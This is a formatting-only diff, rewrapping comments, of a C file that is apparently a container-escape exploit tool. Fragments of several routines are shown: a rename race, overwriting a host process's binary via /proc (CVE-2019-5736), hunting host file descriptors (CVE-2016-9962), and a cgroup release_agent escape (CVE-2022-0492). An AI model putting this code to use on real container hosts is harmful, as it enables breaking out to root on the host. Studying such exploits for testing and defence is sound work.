@@ -26,7 +26,8 @@ static int broken(const char *what) {
   return 99;
 }
 
-/* A breath between two attempts, as the victim may need this CPU: 50 microseconds or a little more. */
+/* A breath between two attempts, as the victim may need this CPU: 50 microseconds or a little more.
+ */
 static void breathe(void) { usleep(1); }
 
 /* flip DIRECTORY: exchanges every NAME in it with NAME.evil, over and over. */
@@ -59,7 +60,8 @@ static int flip(const char *directory) {
     }
 }
 
-/* Says "reached HOW" if `path`, without its leading slash, is below `directory` or up to 16 levels above. */
+/* Says "reached HOW" if `path`, without its leading slash, is below `directory` or up to 16 levels
+ * above. */
 static int reached_from(int directory, const char *how, const char *path) {
   char climb[PATH_MAX] = "./";
   for (int level = 0; level < 16; level++) {
@@ -124,7 +126,8 @@ static int is_own(const struct stat *st) {
   return 0;
 }
 
-/* Waits until the prey's program is not executed any more (ETXTBSY until then), and writes into it. */
+/* Waits until the prey's program is not executed any more (ETXTBSY until then), and writes into it.
+ */
 static void overwrite(int program, const char *name) {
   char path[64];
   snprintf(path, sizeof path, "/proc/self/fd/%d", program);
@@ -146,8 +149,8 @@ static void overwrite(int program, const char *name) {
   printf("prey %s: busy\n", name);
 }
 
-/* hunt PATH: waits for processes whose program is not of this container, and writes into that program
- * (CVE-2019-5736); looks through their descriptors for a host path (CVE-2016-9962). */
+/* hunt PATH: waits for processes whose program is not of this container, and writes into that
+ * program (CVE-2019-5736); looks through their descriptors for a host path (CVE-2016-9962). */
 static int hunt(const char *path) {
   puts("hunting");
   fflush(stdout);
@@ -177,8 +180,8 @@ static int hunt(const char *path) {
   }
 }
 
-/* Run as the dynamic loader of another program, or as one of its libraries would be: keeps that program
- * open, gets out of the way, and overwrites it. */
+/* Run as the dynamic loader of another program, or as one of its libraries would be: keeps that
+ * program open, gets out of the way, and overwrites it. */
 static int trojan(void) {
   char number[16];
   int program = open("/proc/self/exe", O_RDONLY);
@@ -222,7 +225,8 @@ static void say(const char *step, long result) {
 /* release-agent PROGRAM: becomes root of new namespaces, mounts a cgroup v1 hierarchy, and has the
  * kernel run PROGRAM on the host when a cgroup in it gets empty (CVE-2022-0492). */
 static int release_agent(const char *program) {
-  static const char *const controllers[] = {"memory", "pids", "cpuset", "devices", "freezer", "rdma"};
+  static const char *const controllers[] = {"memory",  "pids",    "cpuset",
+                                            "devices", "freezer", "rdma"};
   uid_t uid = getuid();
   char map[64];
   snprintf(map, sizeof map, "0 %u 1", uid);
